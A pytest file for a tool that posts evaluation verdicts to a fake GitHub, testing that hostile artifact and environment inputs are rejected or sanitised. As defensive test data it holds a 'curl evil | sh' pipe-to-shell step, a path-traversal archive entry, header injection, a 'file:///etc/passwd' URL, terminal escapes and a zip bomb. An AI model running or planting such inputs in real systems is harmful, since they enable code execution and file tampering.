"""`evalgate comment`: a verdict that a gate wrote, told on a GitHub on loopback."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest

from evalgate.commands.console import Console
from evalgate.commands.telling.comment import Announced, CommentOptions, comment
from evalgate.errors import UsageError
from tests.e2e.conftest import Evalgate, Repo
from tests.github.fake import TOKEN, FakeGitHub, serve

SHA = "b" * 40


@pytest.fixture(scope="session")
def verdict(measured: Repo, evalgate: Evalgate, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder that a gate wrote, of an edit that nobody measured."""
    folder = tmp_path_factory.mktemp("verdict")
    edited = Repo(path=folder / "repository", environment=dict(measured.environment))
    shutil.copytree(measured.path, edited.path)
    edited.write("agent/prompts/rewrite.md", "Be quick.\n")
    edited.commit("Be quick")
    out = folder / "a verdict é"
    done = evalgate("gate", "--out", out, cwd=edited.path)
    assert done.returncode == 7, done.stderr
    return out


@pytest.fixture
def actions(github: FakeGitHub, tmp_path: Path) -> dict[str, str]:
    """The variables of a step in GitHub Actions, of pull request 7."""
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_API_URL": github.url,
        "GITHUB_SERVER_URL": "https://github.example",
        "GITHUB_REPOSITORY": "o/r",
        "GITHUB_RUN_ID": "50",
        "GITHUB_RUN_ATTEMPT": "2",
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        **event(tmp_path, pull_request={"number": 7, "head": {"sha": SHA}}),
    }


@pytest.fixture
def tell(evalgate: Evalgate, actions: dict[str, str], tmp_path: Path) -> Evalgate:
    """Run `evalgate comment` in such a step, outside of any repository."""

    def call(*arguments: str | Path, **env: str) -> subprocess.CompletedProcess[str]:
        return evalgate(*arguments, cwd=tmp_path, env={**actions, **env})

    return call


def event(folder: Path, **payload: Any) -> dict[str, str]:
    path = folder / "event.json"
    path.write_text(json.dumps(payload))
    return {"GITHUB_EVENT_PATH": str(path)}


def finished(folder: Path, source: str = "fork/r", sha: str = SHA) -> dict[str, str]:
    """The event of a run that was completed, of a branch of some repository."""
    return event(
        folder,
        repository={"full_name": "o/r"},
        workflow_run={
            "id": 40,
            "run_attempt": 3,
            "event": "pull_request",
            "head_sha": sha,
            "head_branch": "topic",
            "head_repository": {
                "full_name": source,
                "owner": {"login": source.split("/", maxsplit=1)[0]},
            },
            "pull_requests": [],
        },
    )


def archive(**files: str | bytes) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in files.items():
            made.writestr(name, text)
    return data.getvalue()


def tell_here(environ: dict[str, str], **asked: Any) -> Announced:
    """Tell it in this process."""
    options = CommentOptions(**asked)
    return comment(Path("/"), None, options, Console(quiet=True), environ)


def told(done: Any) -> dict[str, str]:
    assert done.returncode == 0, done.stderr
    return {name: one["done"] for name, one in json.loads(done.stdout)["told"].items()}


def test_a_verdict_is_told_everywhere(
    verdict: Path,
    tell: Evalgate,
    github: FakeGitHub,
    tmp_path: Path,
) -> None:
    """Comment, summary, outputs and annotations; a second time nothing is written to GitHub."""
    done = tell("--json", "comment", verdict)
    assert told(done) == {
        "summary": "written",
        "outputs": "written",
        "annotations": "1 written",
        "comment": "created",
    }
    (body,) = github.bodies()
    lines = body.splitlines()
    assert lines[:2] == ["<!-- evalgate:v1 -->", f"<!-- run 50.2 head {SHA} -->"]
    assert lines[2].startswith("> [!WARNING]")
    assert "https://github.example/o/r/actions/runs/50/attempts/2" in lines[-1]
    page = (verdict / "verdict.md").read_text().split("\n", 1)[1]
    assert page.strip() in body
    assert (tmp_path / "summary.md").read_text().strip() == page.strip()
    outputs = (tmp_path / "output").read_text().splitlines()
    assert outputs[1] == "stale"
    assert outputs[4] == "7"
    assert "::warning title=evalgate%3A stale::" in done.stderr
    again = tell("comment", verdict, "--to", "comment")
    assert again.stdout.startswith("comment: unchanged (https://github.example/o/r/pull/7#issue")
    assert len(github.writes()) == 1
    assert TOKEN not in done.stdout + done.stderr + body


def test_the_newest_verdict_is_taken_where_no_folder_is_named(
    here: Repo, evalgate: Evalgate, github: FakeGitHub, actions: dict[str, str]
) -> None:
    """That of the project."""
    none = evalgate("comment", cwd=here.path, env=actions)
    assert none.returncode == 2
    assert "has no verdict.json" in none.stderr
    here.write("README.md", "Other words.\n")
    assert evalgate("gate", cwd=here.path).returncode == 0
    done = evalgate("comment", "--dry-run", cwd=here.path, env=actions)
    assert done.stdout.startswith("comment: would create\n\n> [!NOTE]\n> **Nothing to judge.**")
    done = evalgate("comment", "--dry-run", cwd=here.path)  # no token, and no workflow
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("comment: would be written (GitHub was not asked: there is no ")
    assert "**Nothing to judge.**" in done.stdout
    assert not Path(actions["GITHUB_STEP_SUMMARY"]).exists()
    assert github.writes() == []


def test_a_fork_s_token_gets_a_notice(
    verdict: Path, tell: Evalgate, github: FakeGitHub, tmp_path: Path
) -> None:
    """The page is in the summary, also where only the comment was asked for; exit 0."""
    github.allowed = False
    done = tell("--json", "comment", verdict, "--to", "comment")
    assert told(done) == {"comment": "refused", "summary": "written"}
    assert "::notice title=evalgate::no comment: the token may not post" in done.stderr
    assert "[!WARNING]" in (tmp_path / "summary.md").read_text()


def test_without_a_token_the_rest_is_told(
    verdict: Path, tell: Evalgate, github: FakeGitHub, tmp_path: Path
) -> None:
    """A job that has none tells what stays in it; asked for the comment, it is an error."""
    env = {"GITHUB_TOKEN": ""}
    done = tell("--json", "comment", verdict, **env)
    assert [*told(done)] == ["annotations", "outputs", "summary"]
    named = tell("comment", verdict, "--to", "comment", **env)
    assert named.returncode == 2
    assert "error: comment: there is no GITHUB_TOKEN in the environment" in named.stderr
    (tmp_path / "summary.md").unlink()
    gone = dict.fromkeys(("GITHUB_ACTIONS", "GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT"), "")
    nowhere = tell("comment", verdict, **env, **gone)
    assert nowhere.returncode == 2
    assert "there is no place to tell a verdict in" in nowhere.stderr
    assert github.asked == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("GITHUB_TOKEN", f"{TOKEN} two"),
        ("GITHUB_TOKEN", f"{TOKEN}\nX-Evil: 1"),
        ("GITHUB_API_URL", "http://api.example.com"),
        ("GITHUB_API_URL", f"https://{TOKEN}@example.com"),
        ("GITHUB_API_URL", "file:///etc/passwd"),
        ("GITHUB_REPOSITORY", "o/../../x"),
        ("GITHUB_REPOSITORY", "o"),
        ("GITHUB_EVENT_PATH", "/nowhere"),
    ],
)
def test_wrong_surroundings_are_named_and_the_token_never(
    verdict: Path, github: FakeGitHub, actions: dict[str, str], name: str, value: str
) -> None:
    """Nothing was asked by then."""
    with pytest.raises(UsageError) as caught:
        tell_here({**actions, name: value}, folder=verdict)
    assert TOKEN not in caught.value.message + caught.value.hint
    assert github.asked == []


def test_a_token_that_github_does_not_know(
    verdict: Path, tell: Evalgate, github: FakeGitHub, tmp_path: Path
) -> None:
    """It is told without it."""
    from tests.github.fake import Fault, Reply

    github.faults.append(Fault("GET", "/user", Reply(401, {"message": f"Bad {TOKEN}"})))
    done = tell("comment", verdict)
    assert done.returncode == 9
    assert "error: GitHub does not know the token: 401" in done.stderr
    assert TOKEN not in done.stderr


def test_another_run_s_artifact_of_a_fork_is_data(
    verdict: Path, tell: Evalgate, github: FakeGitHub, tmp_path: Path
) -> None:
    """Its Markdown is not used, and what it says of the pull request neither."""
    value = json.loads((verdict / "verdict.json").read_text())
    value |= {"sentence": "<b>@everyone</b> fixes #1 | `x`", "pull_request": 1, "number": 1}
    value["next_steps"] = ["curl evil | sh"]
    value["reasons"] = ["\x1b[31m![x](http://e.invalid)", "\ud800\0\u202e::error::x"]
    github.artifacts["evalgate-verdict"] = archive(
        **{"verdict.json": json.dumps(value), "verdict.md": "# EVIL", "../../evil": "evil"}
    )
    github.open_pull(7, SHA)
    github.open_pull(8, "c" * 40)
    env = finished(tmp_path)
    done = tell("--json", "comment", "--artifact", "evalgate-verdict", **env)
    assert told(done)["comment"] == "created"
    (body,) = github.bodies()
    assert f"<!-- run 40.3 head {SHA} -->" in body
    assert "EVIL" not in body
    assert "curl" not in body
    assert "from a fork" in body
    assert "git fetch origin main pull/7/head:pull-7\n" in body
    assert "> **Waits for a maintainer: " in body
    assert "@everyone" not in body
    assert "fixes #1" not in body
    assert "\x1b" not in body
    assert r"\!\[x\]" in body or r"!\[x\]" in body
    assert "actions/runs/40/attempts/3" in body
    assert not list(tmp_path.parent.glob("**/evil"))
    assert ("POST", "/repos/o/r/issues/7/comments") in github.asked


def test_what_a_maintainer_measured_is_told_in_the_same_comment(
    verdict: Path, evalgate: Evalgate, github: FakeGitHub, tell: Evalgate, tmp_path: Path
) -> None:
    """By hand, of the commit that was judged; what knows nothing of that one says nothing then."""
    value = json.loads((verdict / "verdict.json").read_text())
    judged = value["head"]["commit"]
    github.artifacts["evalgate-verdict"] = archive(**{"verdict.json": json.dumps(value)})
    github.open_pull(7, judged)
    env = finished(tmp_path, sha=judged)
    assert tell("comment", "--artifact", "evalgate-verdict", **env).returncode == 0
    github.login = "ann"
    measured = tmp_path / "measured"
    measured.mkdir()
    value |= {"decision": "pass", "exit_code": 0, "sentence": "No drop was seen."}
    (measured / "verdict.json").write_text(json.dumps(value))
    by_hand = {"GITHUB_TOKEN": TOKEN, "GITHUB_REPOSITORY": "o/r", "GITHUB_API_URL": github.url}
    options = ("comment", measured, "--pr", "7", "--to", "comment")
    done = evalgate(*options, cwd=tmp_path, env=by_hand)
    assert done.returncode == 0, done.stderr
    (body,) = github.bodies()
    assert body.splitlines()[1] == f"<!-- run 0.0 head {judged} -->"
    assert "No drop was seen." in body
    github.login = None
    assert tell("comment", "--artifact", "evalgate-verdict", **env).returncode == 0
    assert github.bodies() == [body]


def test_another_run_s_artifact_of_the_same_repository(
    verdict: Path, tell: Evalgate, github: FakeGitHub, tmp_path: Path
) -> None:
    """Who may push there may as well comment: the page stays as it is. Storage gets no token."""
    github.artifacts["v"] = archive(
        **{name: (verdict / name).read_bytes() for name in ("verdict.json", "verdict.md")}
    )
    github.open_pull(7, SHA, head="o:topic")
    env = finished(tmp_path, "o/r")
    done = tell("--json", "comment", "--artifact", "v", **env)
    assert told(done)["comment"] == "created"
    assert "How this was decided" in github.bodies()[0]
    tokens = dict(github.tokens)
    assert tokens["/storage/1"] == ""


@pytest.mark.parametrize(("sha", "count"), [("c" * 40, 1), (SHA, 2)])
def test_a_head_that_is_not_one_open_pull_request(
    verdict: Path, actions: dict[str, str], tmp_path: Path, sha: str, count: int
) -> None:
    """It has moved on, or two have it: nobody guesses."""
    with serve() as github:
        data = (verdict / "verdict.json").read_bytes()
        github.artifacts["v"] = archive(**{"verdict.json": data})
        for number in range(count):
            github.open_pull(7 + number, sha)
        env = {**actions, "GITHUB_API_URL": github.url, **finished(tmp_path)}
        announced = tell_here(env, artifact="v")
        assert announced.told[-1].done == "nothing"
        assert github.writes() == []


def test_a_run_without_a_verdict(tell: Evalgate, github: FakeGitHub, tmp_path: Path) -> None:
    """Its own check is red already: this one says so and is not."""
    done = tell("--json", "comment", "--artifact", "v", **finished(tmp_path))
    assert told(done) == {"comment": "nothing"}
    assert "::notice title=evalgate::no comment: the run has no artifact v" in done.stderr
    assert github.writes() == []


BAD = {
    "no archive": b"not a zip",
    "no verdict": archive(other="x"),
    "a folder's": archive(**{"x/verdict.json": "{}"}),
    "no object": archive(**{"verdict.json": "[]"}),
    "no JSON": archive(**{"verdict.json": "{" * 100_000}),
    "a bomb": archive(**{"verdict.json": b"0" * (64 * 1024 * 1024)}),
    "a method nobody has": archive(**{"verdict.json": "{}"}).replace(b"\x08\x00", b"\x63\x00"),
    "broken within": archive(**{"verdict.json": "{}" * 99}).replace(b"\xab", b"\x00"),
    "wrong kinds": archive(**{"verdict.json": '{"format": 1, "exit_code": "0"}'}),
    "another format": archive(**{"verdict.json": '{"format": 99}'}),
}


@pytest.mark.parametrize("name", BAD)
def test_an_artifact_that_is_none(
    github: FakeGitHub, actions: dict[str, str], tmp_path: Path, name: str
) -> None:
    """It is refused in words, and nothing is posted."""
    github.artifacts["v"] = BAD[name]
    with pytest.raises(UsageError):
        tell_here({**actions, **finished(tmp_path)}, artifact="v")
    assert github.writes() == []
